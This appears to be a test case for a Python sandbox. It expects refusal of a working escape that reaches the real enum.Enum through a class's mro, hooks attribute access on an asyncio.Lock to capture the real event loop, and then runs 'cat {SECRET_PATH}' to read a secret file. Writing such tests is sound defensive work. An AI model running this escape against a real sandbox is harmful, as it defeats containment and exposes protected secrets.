# category: facade-bypass
# signal: secret
# expect: refused
# tripwire: stops open
# source: the mro() of the program's own enum class passes through the façade's Enum to the real enum.Enum, whose functional API defines __setattr__ and __getattr__ (hooks a class body may not define) on an asyncio.Lock mixin; they receive the real loop the lock stores on itself
import asyncio
import enum
class Color(enum.Enum):
    RED = 1
RealEnum = Color.mro()[-2]
stored = {}
def remember(self, name, value):
    stored[name] = value
def recall(self, name):
    if name in stored:
        return stored[name]
    raise AttributeError(name)
Hooked = RealEnum("Hooked", {"A": (), "__setattr__": remember, "__getattr__": recall}, type=asyncio.Lock)
lock = Hooked.A
await lock.acquire()
async def contend():
    await lock.acquire()
waiter = asyncio.create_task(contend())
await asyncio.sleep(0)
loop = stored["_loop"]
class Reader:
    def __init__(self):
        self.done = asyncio.Event()
        self.output = []
    def connection_made(self, transport):
        pass
    def pipe_data_received(self, fd, data):
        self.output.append(data)
    def pipe_connection_lost(self, fd, exc):
        pass
    def process_exited(self):
        self.done.set()
    def connection_lost(self, exc):
        pass
reader = Reader()
transport, _ = await loop.subprocess_shell(lambda: reader, "cat {SECRET_PATH}")
await reader.done.wait()
await asyncio.sleep(0.1)
transport.close()
return b"".join(reader.output).decode()
